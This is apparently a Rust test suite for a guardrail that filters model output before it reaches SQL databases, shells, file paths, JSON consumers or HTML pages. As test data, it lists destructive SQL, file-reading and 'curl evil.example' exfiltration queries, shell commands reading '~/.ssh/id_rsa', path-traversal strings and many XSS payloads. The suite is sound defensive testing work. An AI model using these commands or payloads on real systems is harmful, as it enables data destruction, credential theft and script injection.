//! Output for a sink: what its parser does not understand in full, or the policy does not allow, does not go on.

use privet_guardrails::controls::{Action, Filter, Passed, Sink, SinkConfig};
use privet_types::Budget;
use proptest::prelude::*;

use crate::cuts::{cuts, run, same_however_cut, texts};

fn sink(to: &str) -> Sink {
    sink_that(Action::Block, to)
}

fn sink_that(action: Action, to: &str) -> Sink {
    let config = SinkConfig {
        action,
        to: serde_json::from_str(to).unwrap(),
    };
    Sink::new(&config).unwrap()
}

fn check(sink: &Sink, output: &str) -> Passed {
    sink.check(output, &Budget::unlimited()).unwrap()
}

/// Which of `attacks` go through, and which of `twins` do not, with the reason.
fn wrong(sink: &Sink, attacks: &[&str], twins: &[&str]) -> Vec<String> {
    let through = attacks
        .iter()
        .filter(|attack| check(sink, attack).action() != Action::Block);
    let stopped = twins.iter().filter(|twin| check(sink, twin).text != **twin);
    through
        .map(|attack| format!("through: {attack}"))
        .chain(stopped.map(|twin| format!("stopped: {twin} {:?}", check(sink, twin).hits)))
        .collect()
}

#[test]
fn only_sql_that_reads_goes_on() {
    let attacks = [
        "DROP TABLE orders",
        "DELETE FROM orders",
        "UPDATE orders SET total = 0",
        "INSERT INTO orders VALUES (1)",
        "SELECT 1; DROP TABLE orders",
        "SELECT 1; SELECT 2",
        "SELECT * INTO stolen FROM orders",
        "SELECT * FROM orders FOR UPDATE",
        "WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone",
        "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT * FROM t",
        "SELECT pg_sleep(100)",
        "SELECT * FROM pg_read_file('/etc/passwd')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT dblink_exec('host=evil.example', 'DROP TABLE x')",
        "SELECT nextval('s')",
        "SELECT (SELECT pg_terminate_backend(1))",
        "SELECT * FROM orders WHERE id IN (SELECT my_function(1))",
        "SELECT * FROM pg_catalog.pg_shadow",
        "SELECT * FROM pg_shadow",
        "SELECT * FROM information_schema.tables",
        "COPY orders TO '/tmp/x'",
        "COPY orders TO PROGRAM 'curl evil.example'",
        "EXPLAIN ANALYZE DELETE FROM orders",
        "EXPLAIN SELECT 1",
        "SET ROLE postgres",
        "DO $$ BEGIN PERFORM 1; END $$",
        "CALL do_it()",
        "VACUUM",
        "TRUNCATE orders",
        "GRANT ALL ON orders TO eve",
        "SELECT 1 -- and on\n; DROP TABLE orders",
        "SELECT 1 /* hidden */",
        "SELECT 1 /*!50000 INTO OUTFILE '/tmp/x' */",
        "SELECT 'unfinished",
        "SELECT \u{0}1",
        "not sql at all",
        "",
        ";",
    ];
    let twins = [
        "SELECT count(*) FROM orders",
        "SELECT o.id, SUM(o.total) AS total FROM shop.orders o JOIN customers c ON c.id = o.customer WHERE c.name LIKE 'A%' AND o.at > now() - INTERVAL '7 days' GROUP BY o.id HAVING SUM(o.total) > 10 ORDER BY total DESC LIMIT 10;",
        "WITH best AS (SELECT * FROM orders WHERE total > 100) SELECT avg(total) FROM best",
        "SELECT name FROM a UNION ALL SELECT name FROM b",
        "SELECT CASE WHEN total > 5 THEN 'big' ELSE 'small' END FROM orders",
        "SELECT 'DROP TABLE orders; -- only a string'",
        "SELECT * FROM orders WHERE note = 'it''s fine /* really */'",
        "SELECT row_number() OVER (PARTITION BY customer ORDER BY at) FROM orders",
    ];
    let sink = sink(r#"{ "kind": "sql", "dialect": "postgresql" }"#);
    assert_eq!(wrong(&sink, &attacks, &twins), Vec::<String>::new());
}

#[test]
fn tables_and_functions_go_by_their_lists() {
    let sink = sink(r#"{ "kind": "sql", "tables": ["orders", "shop.items"], "functions": ["shop.price"] }"#);
    let attacks = [
        "SELECT * FROM users",
        "SELECT * FROM items",
        "SELECT * FROM (SELECT * FROM users) x",
        "SELECT price(1)",
    ];
    let twins = [
        "SELECT * FROM Orders, shop.items",
        "SELECT shop.price(1)",
        "WITH x AS (SELECT * FROM orders) SELECT * FROM x",
    ];
    assert_eq!(wrong(&sink, &attacks, &twins), Vec::<String>::new());
}

#[test]
fn other_dialects_own_tricks_are_refused() {
    let mysql = sink(r#"{ "kind": "sql", "dialect": "mysql" }"#);
    let attacks = [
        "SELECT * FROM orders INTO OUTFILE '/tmp/x'",
        "SELECT load_file('/etc/passwd')",
        "SELECT sleep(100)",
        "SELECT @a := 1",
        "SELECT 1 # and on",
    ];
    // A string to the one is a comment to the other.
    let twins = ["SELECT `name` FROM `orders`", "SELECT 'a\\' OR 1=1 -- '"];
    assert_eq!(wrong(&mysql, &attacks, &twins), Vec::<String>::new());
    let postgresql = sink(r#"{ "kind": "sql", "dialect": "postgresql" }"#);
    assert_eq!(
        wrong(&postgresql, &["SELECT 'a\\' OR 1=1 -- '"], &[]),
        Vec::<String>::new()
    );
    let mssql = sink(r#"{ "kind": "sql", "dialect": "mssql" }"#);
    let attacks = [
        "EXEC xp_cmdshell 'dir'",
        "SELECT * FROM OPENROWSET('x', 'y', 'z')",
        "SELECT * FROM sys.tables",
    ];
    assert_eq!(
        wrong(&mssql, &attacks, &["SELECT TOP 5 [name] FROM orders"]),
        Vec::<String>::new()
    );
    let sqlite = sink(r#"{ "kind": "sql", "dialect": "sqlite" }"#);
    let attacks = [
        "ATTACH DATABASE '/tmp/x' AS x",
        "SELECT load_extension('x')",
        "PRAGMA writable_schema = 1",
        "SELECT * FROM sqlite_master",
    ];
    assert_eq!(
        wrong(&sqlite, &attacks, &["SELECT substr(name, 1, 3) FROM orders"]),
        Vec::<String>::new()
    );
}

#[test]
fn queries_that_are_deep_or_long_are_refused_and_do_not_end_the_program() {
    let sink = sink(r#"{ "kind": "sql" }"#);
    for text in [
        format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000)),
        format!("SELECT 1{}", " + 1".repeat(5000)),
        format!("SELECT 1{}", " UNION SELECT 1".repeat(5000)),
        format!("SELECT {}1", "NOT ".repeat(5000)),
        format!("SELECT a{}", "[1]".repeat(5000)),
        format!("SELECT {}", "CASE WHEN 1 THEN ".repeat(2000)),
    ] {
        assert_eq!(check(&sink, &text).action(), Action::Block, "{}", &text[..20]);
    }
}

#[test]
fn a_shell_gets_one_allowed_command_of_plain_words() {
    let sink = sink(r#"{ "kind": "shell", "commands": ["git status", "ls -l", "cat", "wc"] }"#);
    let attacks = [
        "rm -rf /",
        "git push",
        "git",
        "ls -l; rm x",
        "ls -l && rm x",
        "ls -l | sh",
        "cat x > y",
        "cat $HOME",
        "cat `id`",
        "cat \"$(id)\"",
        "cat ~/.ssh/id_rsa",
        "cat ../../etc/passwd",
        "cat x/../../y",
        "cat *",
        "cat x # y",
        "cat x\nrm y",
        "cat 'unfinished",
        "cat x\\ y",
        "X=1 cat",
        "cat --help",
        "/bin/cat x",
        "cat {a,b}",
        "cat x &",
        "!cat",
        "",
    ];
    let twins = [
        "git status",
        "ls -l docs",
        "cat 'a file.txt' \"another one\"",
        "wc report.csv\n",
        "cat",
    ];
    assert_eq!(wrong(&sink, &attacks, &twins), Vec::<String>::new());
}

#[test]
fn a_path_stays_below_its_folder() {
    let sink = sink(
        r#"{ "kind": "path", "roots": ["/srv/reports"], "relative": true, "endings": [".csv", ".pdf"] }"#,
    );
    let attacks = [
        "/etc/passwd.csv",
        "/srv/reports.csv",
        "/srv/reports/../x.csv",
        "../x.csv",
        "a/../../x.csv",
        "./x.csv",
        "a//x.csv",
        "/srv/reports/x.sh",
        "/srv/reports/.hidden.csv",
        "~/x.csv",
        "C:\\x.csv",
        "a\\..\\x.csv",
        "x.csv\u{0}.pdf",
        "..%2fx.csv",
        "\u{ff0e}\u{ff0e}/x.csv",
        "a\u{2024}\u{2024}/x.csv",
        "file:x.csv",
        "-rf.csv",
        "con.csv",
        "x.csv ",
        "",
        "/srv/reports/",
    ];
    let twins = [
        "/srv/reports/2026/march.csv",
        "march.PDF",
        "a/b c/d-e_f.csv",
        "über/日本.csv",
    ];
    assert_eq!(wrong(&sink, &attacks, &twins), Vec::<String>::new());
    let bad: SinkConfig =
        serde_json::from_str(r#"{ "to": { "kind": "path", "roots": ["/srv/../x"] } }"#).unwrap();
    assert!(Sink::new(&bad).is_err());
    assert!(serde_json::from_str::<SinkConfig>(r#"{ "to": { "kind": "path", "rots": [] } }"#).is_err());
}

#[test]
fn json_fits_its_schema_or_does_not_go_on() {
    let sink = sink(
        r#"{ "kind": "json", "schema": { "type": "object", "required": ["a"], "properties": { "a": { "type": "integer" } } } }"#,
    );
    let attacks = [
        r#"{"a":"1"}"#,
        r#"{"a":1,"a":"2"}"#,
        r#"{"a":1} and more"#,
        "{}",
        "",
        "```json\n{\"a\":1}\n```",
    ];
    assert_eq!(
        wrong(&sink, &attacks, &[r#"{"a":1,"b":[]}"#]),
        Vec::<String>::new()
    );
}

fn html() -> Sink {
    sink_that(Action::Redact, r#"{ "kind": "html", "hosts": ["good.example"] }"#)
}

#[test]
fn html_is_made_anew_of_harmless_elements() {
    for (html_, left) in [
        ("<p>Hello <b>you</b></p>", "<p>Hello <b>you</b></p>"),
        ("<script>alert(1)</script>x", "x"),
        ("<p onclick=\"x()\">a</p>", "<p>a</p>"),
        ("<img src=x onerror=alert(1)>", "<img src=\"x\">"),
        ("<a href=\"javascript:alert(1)\">a</a>", "<a>a</a>"),
        ("<a href=\"https://evil.example/\">a</a>", "<a>a</a>"),
        (
            "<a href=\"https://good.example/\">a</a>",
            "<a href=\"https://good.example/\">a</a>",
        ),
        ("<svg><script>alert(1)</script></svg>x", "x"),
        ("<style>p{background:url(//evil.example)}</style>x", "x"),
        ("<p style=\"background:url(//evil.example)\">x</p>", "<p>x</p>"),
        ("<iframe srcdoc=\"<script>\"></iframe>x", "x"),
        ("<form action=//evil.example><input name=a></form>x", "x"),
        ("<!-- <b> -->x", "x"),
        ("</div></div>x", "x"),
        ("<div><p>x", "<div><p>x</p></div>"),
        ("<b><i>x</b></i>y", "<b><i>x</i></b>y"),
        (
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>x",
            "x",
        ),
        (
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>x",
            "<img src=\"x\">&quot;&gt;x",
        ),
        ("<scr<script>ipt>alert(1)</script>x", "ipt&gt;alert(1)x"),
        ("1 < 2 & 3 > 2", "1 &lt; 2 &amp; 3 &gt; 2"),
        ("<textarea><script>x</script></textarea>y", "y"),
        ("<plaintext><script>", "&lt;script&gt;"),
    ] {
        assert_eq!(check(&html(), html_).text, left, "{html_}");
    }
}

#[test]
fn html_without_markup_is_shown_as_text() {
    let sink = sink(r#"{ "kind": "html", "markup": false }"#);
    assert_eq!(check(&sink, "<b>x</b>").text, "&lt;b&gt;x&lt;/b&gt;");
    assert_eq!(check(&sink, "plain").text, "plain");
    let blocks = self::sink(r#"{ "kind": "html" }"#);
    assert_eq!(check(&blocks, "<script>x</script>").action(), Action::Block);
    assert_eq!(check(&blocks, "<p>x</p>").text, "<p>x</p>");
}

const MARKUP: &[&str] = &[
    "<",
    ">",
    "</",
    "/>",
    "script",
    "<script>",
    "</script>",
    "<style>",
    "</style>",
    "<svg>",
    "</svg>",
    "<math>",
    "<p>",
    "</p>",
    "<b",
    " onclick=",
    "\"",
    "'",
    "=",
    "x",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<img src=",
    "javascript:",
    "&lt;",
    "&#60;",
    "\0",
    "<textarea>",
    "</textarea>",
    "<noscript>",
    "<title>",
    "<a href=",
    "<plaintext>",
    " ",
    "`",
    "<template>",
    "</template>",
    "<table>",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn what_was_cleaned_is_clean(text in texts(MARKUP)) {
        let passed = check(&html(), &text);
        let once = passed.text;
        let again = check(&html(), &once);
        prop_assert_eq!(&again.text, &once);
        let lower = once.to_lowercase();
        let acts = ["<script", "<style", "<svg", "<math", "<iframe", "<textarea", "<template", "<noscript", "<title", "<plaintext", "<!"];
        prop_assert!(!acts.iter().any(|act| lower.contains(act)), "{}", once);
        let reads_handler = html5gum::Tokenizer::new(&once).any(|token| match token {
            Ok(html5gum::Token::StartTag(tag)) => tag.attributes.keys().any(|name| name.starts_with(b"on")),
            _ => false,
        });
        prop_assert!(!reads_handler);
    }

    #[test]
    fn sinks_say_the_same_however_a_text_is_cut(text in texts(MARKUP), cuts in cuts()) {
        same_however_cut(&|| Box::new(html().into_filter()), &text, &cuts);
    }
}

#[test]
fn an_output_that_is_too_long_does_not_go_on() {
    let mut filter = html().into_filter();
    let passed = run(&mut filter, &"a".repeat((1 << 20) + 1), &[5]);
    assert_eq!((passed.text.as_str(), passed.action()), ("", Action::Block));
    let mut passed = Passed::default();
    filter.finish(&mut passed, &Budget::unlimited()).unwrap();
    assert_eq!(passed, Passed::default());
}
